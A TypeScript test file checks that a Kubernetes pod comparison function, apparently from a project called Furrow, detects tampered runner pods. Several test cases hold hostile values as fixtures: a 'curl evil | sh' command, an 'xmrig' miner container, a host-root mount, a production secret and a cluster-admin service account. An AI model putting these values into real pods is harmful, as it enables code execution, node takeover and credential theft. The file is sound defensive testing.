// podSpecDifferences: whether a pod claiming to be a run's is the pod Furrow would build for it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Pod } from '../../../../src/kube/json.ts';
import { buildRunnerPod } from '../../../../src/resources/runner-pod/build.ts';
import { podSpecDifferences } from '../../../../src/resources/runner-pod/compare.ts';
import { makePool, makeRun } from '../../../support/builders.ts';

const gitImage = 'alpine/git:2.47.2';
const want = (): Pod =>
  buildRunnerPod({
    run: makeRun({
      spec: {
        source: {
          git: { url: 'https://example.com/a.git', revision: 'main', credentials: { secretName: 'git' } },
        },
      },
    }),
    pool: makePool(),
    attempt: 1,
    remainingMs: 3_600_000,
    gitImage,
  });

function spec(p: Pod): NonNullable<Pod['spec']> {
  assert.ok(p.spec);
  return p.spec;
}
function first<T>(list: T[] | undefined): T {
  const item = list?.[0];
  assert.ok(item);
  return item;
}

/** [what is changed, the change, the differences expected]. */
const cases: [string, (pod: Pod) => void, string[]][] = [
  ['nothing', () => undefined, []],
  // What the API server or a later build changes without changing what runs: no difference.
  [
    'the API server’s default tolerations and service account, a later deadline, labels',
    (p) => {
      p.spec?.tolerations?.push(
        {
          key: 'node.kubernetes.io/not-ready',
          operator: 'Exists',
          effect: 'NoExecute',
          tolerationSeconds: 300,
        },
        {
          key: 'node.kubernetes.io/unreachable',
          operator: 'Exists',
          effect: 'NoExecute',
          tolerationSeconds: 300,
        },
      );
      Object.assign(spec(p), { serviceAccountName: 'default', activeDeadlineSeconds: 17, nodeName: 'n1' });
      p.metadata = { ...p.metadata, labels: { extra: 'x' } };
    },
    [],
  ],
  [
    'a secret volume’s defaultMode filled in',
    (p) => {
      const v = p.spec?.volumes?.find((x) => x.secret);
      if (v?.secret) v.secret.defaultMode = 420;
    },
    [],
  ],
  [
    'the main container’s image',
    (p) => void (first(spec(p).containers).image = 'evil:latest'),
    ['containers (names, images, commands or args)'],
  ],
  [
    'the main container’s command',
    (p) => void (first(spec(p).containers).command = ['sh', '-c', 'curl evil | sh']),
    ['containers (names, images, commands or args)'],
  ],
  [
    'an added container',
    (p) => void spec(p).containers.push({ name: 'miner', image: 'xmrig' }),
    ['containers (names, images, commands or args)'],
  ],
  [
    'an init container’s args',
    (p) => void (first(spec(p).initContainers).args = ['--evil']),
    ['initContainers (names, images, commands or args)'],
  ],
  [
    'a toleration of every taint',
    (p) => void (spec(p).tolerations ??= []).push({ operator: 'Exists' }),
    ['tolerations'],
  ],
  ['no tolerations', (p) => void (spec(p).tolerations = []), ['tolerations']],
  [
    'another nodeSelector',
    (p) => void (spec(p).nodeSelector = { 'furrow.dev/pool': 'patrician' }),
    ['nodeSelector'],
  ],
  [
    'a hostPath volume',
    (p) => void (spec(p).volumes ??= []).push({ name: 'root', hostPath: { path: '/' } }),
    ['volumes'],
  ],
  [
    'the workspace as a hostPath',
    (p) =>
      void (spec(p).volumes = (spec(p).volumes ?? []).map((v) =>
        v.name === 'workspace' ? { name: 'workspace', hostPath: { path: '/' } } : v,
      )),
    ['volumes'],
  ],
  [
    'another Secret',
    (p) => {
      const v = p.spec?.volumes?.find((x) => x.secret);
      if (v?.secret) v.secret.secretName = 'prod-credentials';
    },
    ['volumes'],
  ],
  ['hostNetwork', (p) => void (spec(p).hostNetwork = true), ['hostNetwork']],
  [
    'another service account',
    (p) => void (spec(p).serviceAccountName = 'cluster-admin'),
    ['serviceAccountName'],
  ],
  ['another runtime class', (p) => void (spec(p).runtimeClassName = 'runc'), ['runtimeClassName']],
  [
    'image and nodeSelector',
    (p) => {
      first(spec(p).containers).image = 'evil';
      spec(p).nodeSelector = {};
    },
    ['containers (names, images, commands or args)', 'nodeSelector'],
  ],
];

for (const [name, change, expected] of cases) {
  test(`podSpecDifferences: ${name}`, () => {
    const got = structuredClone(want());
    change(got);
    assert.deepEqual(podSpecDifferences(want(), got), expected);
  });
}
